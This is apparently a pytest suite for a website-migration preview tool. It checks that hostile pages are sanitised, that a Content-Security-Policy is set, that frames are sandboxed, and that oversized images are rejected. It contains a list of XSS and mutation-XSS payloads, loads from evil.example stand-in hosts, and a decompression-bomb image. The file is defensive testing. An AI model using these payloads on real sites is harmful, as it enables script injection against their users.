"""Any page may be hostile: what of it may never pass into the preview."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path, PurePosixPath

import pytest
from bs4 import BeautifulSoup
from PIL import Image

from migrator.archive import Archive
from migrator.models import Asset, Fact, Snapshot
from migrator.preview.copies import Copies, body_of
from migrator.preview.side import Side
from migrator.preview.thumbs import _made
from tests import previewed as site
from tests.conftest import FETCHED
from tests.previewed import Previewed, Read, one, parsed, previewed, texts

HOSTILE = (
    "<script>a()</script>",
    "<img src=x onerror=a()>",
    '<a href="javascript:a()">x</a>',
    '<a href="java&#10;script:a()">x</a>',
    '<a href="data:text/html,<script>a()</script>">x</a>',
    "<svg><script>a()</script><image href=https://evil.example/a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=a()&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=a()>'>",
    "<style>@import 'https://evil.example/a.css'; * { background: url(https://evil.example/b) }"
    "</style>",
    "<p style='background:url(https://evil.example/c)' onclick=a()>x</p>",
    "<link rel=preload as=image href=https://evil.example/d><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/e'>",
    "<iframe srcdoc='<script>parent.a()</script>'></iframe><iframe src=https://evil.example/f></iframe>",
    "<object data=https://evil.example/g></object><embed src=https://evil.example/h>",
    "<video src=https://evil.example/i poster=https://evil.example/j><source src=https://evil.example/k></video>",
    "<form action=https://evil.example/l><input name=q><button formaction=https://evil.example/m>x</button></form>",
    "<img srcset='https://evil.example/n 2x' src=https://evil.example/o>",
    "<picture><source srcset=https://evil.example/p><img></picture>",
    "<body background=https://evil.example/q><table background=https://evil.example/r><td>x",
    "<template><img src=x onerror=a()></template><xmp><img src=x onerror=a()></xmp>",
    "<p class=removed id=content>x</p>",
    "<a ping=https://evil.example/s href=https://ok.example/>x</a>",
)


def test_values_of_the_page_are_text_in_the_preview(tmp_path: Path, read: Read) -> None:
    """A title of HTML is shown as it is written, in both documents."""
    title = '</title><script>alert(1)</script>"><img src=x onerror=alert(1)>'
    made = previewed(
        tmp_path,
        read,
        change=lambda found: site.with_facts(found, "lake", title=Fact(title, "page")),
    )
    index = (made.folder / "preview" / "index.html").read_text()

    for text in (index, str(parsed(made, "pages", "lake")), str(parsed(made, "old", "lake"))):
        assert "<script>alert" not in text
        assert "<img src=x" not in text
    assert title in texts(parsed(made, "pages", "lake"), "h1")


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_of_a_hostile_page_runs_or_loads(html: str) -> None:
    """No script, no handler, no style, no address but those that we put there."""
    side = Side(html)
    side.frames("Frame:", "Field:")
    side.pictures(lambda source: "", lambda source: "", "Picture:", "")
    side.links(lambda href: href if href.startswith("https://ok") else "")
    told = BeautifulSoup(side.html(), "html.parser")
    names = {name for node in told.find_all(True) for name in node.attrs}

    assert not told.select("script, style, svg, math, iframe, object, embed, form, input, img")
    assert names <= {"class", "href", "title", "target", "rel", "alt"}
    assert all(str(link["href"]).startswith("https://ok") for link in told.select("[href]"))
    assert not told.select("p.removed, #content")


def test_every_document_shuts_the_browser_in(sound: Previewed) -> None:
    """Each says itself what may be loaded, before anything else; the frame may run nothing."""
    for path in (sound.folder / "preview").rglob("*.html"):
        tree = BeautifulSoup(path.read_bytes(), "html.parser")
        policy = str(one(tree, "meta[http-equiv=Content-Security-Policy]")["content"])
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
        first = [node.name for node in one(tree, "head").find_all(True)][:2]

        assert first == ["meta", "meta"]
        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
        assert set(rules.values()) == {"'none'", "'self'"}
        assert ("script-src" in rules) == (path.parent.name != "old")
        assert tree.select("[style], style, [onclick]") == []
        for frame in tree.select("iframe"):
            assert frame["sandbox"] == ["allow-same-origin"]


def test_no_page_can_forge_our_marks() -> None:
    """What looks like the seal of another page is the page's own text."""
    forged = Side("<p>a</p>").mark("lost")
    html = Side(f"<p class='removed{forged[:-5]}'>{forged}x</p>").html()

    assert html == f"<p>{forged}x</p>"


def test_a_drawing_is_shown_but_never_opened() -> None:
    """As a picture it runs nothing; by itself it would be a page with scripts."""
    url = "https://x.example/a.svg"
    path = PurePosixPath("site/a.svg")
    found = Copies({}, {url: path})

    assert found.picture(url) == "../../site/a.svg"
    assert found.link(url) == ""


def test_what_is_never_seen_is_no_text_either() -> None:
    """The code of a script or a style does not turn into words."""
    html = "<script>a</script><style>b</style><template>c</template><p>d</p><noscript>e</noscript>"

    assert Side(html).html() == "<p>d</p>"


def bomb() -> bytes:
    out = BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    "body", [b"", b"no picture", site.picture()[:60], site.picture(size=(4, 4)), bomb()]
)
def test_a_broken_tiny_or_gigantic_picture_has_no_thumbnail(body: bytes) -> None:
    """None of them costs more than a look."""
    assert _made("0001", body) is None


def test_a_file_is_read_no_further_than_it_may_be(tmp_path: Path) -> None:
    """What is too large for a thumbnail is not taken into memory to see that."""
    url = f"{site.HOST}/a.png"
    asset = Asset(url, PurePosixPath("site/a.png"))
    archive = Archive(tmp_path / "site.warc.gz")
    headers = (("Content-Type", "image/png"),)
    archive.keep(Snapshot(url, b"x" * 300_000, "image/png", FETCHED, headers=headers).as_capture())

    assert len(body_of(asset, archive)) == 300_000
    assert body_of(asset, archive, 100_000) == b""
